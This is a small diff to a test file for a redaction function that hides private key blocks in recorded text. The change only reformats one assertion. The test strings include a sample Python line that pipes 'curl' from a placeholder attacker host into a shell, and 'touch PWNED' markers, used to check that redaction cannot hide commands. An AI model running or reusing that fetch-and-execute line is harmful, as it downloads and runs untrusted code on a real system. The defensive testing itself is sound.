@@ -32,7 +32,9 @@ describe('private key blocks in recorded text', () => {
 
   it('an unterminated header ends at the first line that is not base64: what follows stays visible', () => {
     expect(redactText(`echo hello # -----BEGIN PRIVATE KEY-----\ntouch PWNED-HIDDEN`)).toBe('echo hello # [redacted]\ntouch PWNED-HIDDEN')
-    expect(redactText(`print('hello')\n# ${begin}\nimport os; os.system('curl -s https://evil.example/x | sh')\n`)).toBe(`print('hello')\n# [redacted]\nimport os; os.system('curl -s https://evil.example/x | sh')\n`)
+    expect(redactText(`print('hello')\n# ${begin}\nimport os; os.system('curl -s https://evil.example/x | sh')\n`)).toBe(
+      `print('hello')\n# [redacted]\nimport os; os.system('curl -s https://evil.example/x | sh')\n`
+    )
     expect(redactText(`echo "${begin}\\ntouch PWNED"`)).toBe('echo "[redacted]\\ntouch PWNED"')
     // A cut key still loses its base64 lines.
     expect(redactText(`${begin}\n${body[0]}\n${body[1]}`)).toBe('[redacted]')
